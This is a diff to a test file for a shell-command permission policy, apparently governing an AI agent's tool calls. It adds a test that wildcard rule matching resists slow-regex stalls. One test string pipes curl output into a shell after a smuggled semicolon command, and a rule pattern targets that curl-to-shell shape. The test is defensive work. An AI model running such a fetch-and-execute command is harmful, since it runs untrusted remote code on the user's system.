@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { SecuritySchema } from '../../../server/config/security-schema.js';
-import { commandsOf } from '../../../server/security/command-rules.js';
+import { commandsOf, wildcardMatch } from '../../../server/security/command-rules.js';
 import { createPolicy, type PolicyRequest } from '../../../server/security/policy.js';
 
 const policy = createPolicy();
@@ -92,5 +92,19 @@ describe('the permission policy', () => {
     expect(decide('cd repo && env GIT_TRACE=1 git push')).toBe('ask');
     expect(decide('(git push)')).toBe('ask');
     expect(decide('git pull')).toBe('allow');
+  });
+
+  it('matches command rules without regexes, so a long hostile command line cannot stall the policy', () => {
+    expect(wildcardMatch('git push*', 'git push origin main')).toBe(true);
+    expect(wildcardMatch('*curl *|*sh', 'x; curl http://e | bash -c sh')).toBe(true);
+    expect(wildcardMatch('rm -rf *', 'rm -r build')).toBe(false);
+    const rules = security({ commands: [{ pattern: `${'*a'.repeat(30)}*b`, action: 'deny' }] });
+    const started = performance.now();
+    const decision = policy.evaluate(
+      rules,
+      request({ tool: 'run_shell_command', operation: 'execute', command: 'a'.repeat(30_000) }),
+    );
+    expect(decision.action).toBe('allow');
+    expect(performance.now() - started).toBeLessThan(5000);
   });
 });
